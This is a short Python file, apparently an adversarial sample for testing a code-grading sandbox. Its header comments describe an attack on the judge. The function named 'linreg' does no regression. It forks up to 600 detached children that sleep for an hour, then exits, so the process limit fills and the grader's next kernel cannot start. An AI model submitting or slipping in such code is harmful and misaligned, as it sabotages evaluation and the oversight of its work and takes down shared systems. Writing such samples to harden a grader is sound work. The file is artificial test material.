# attack: fills whatever a user may have of processes, so that its own next kernel cannot start and the judge is at fault
# cell: linreg
# earns: any
# outcome: killed or raised or stopped
import os
import time


def linreg(X, w, b):
    for _ in range(600):
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(3600)
        except OSError:
            break
    os._exit(1)
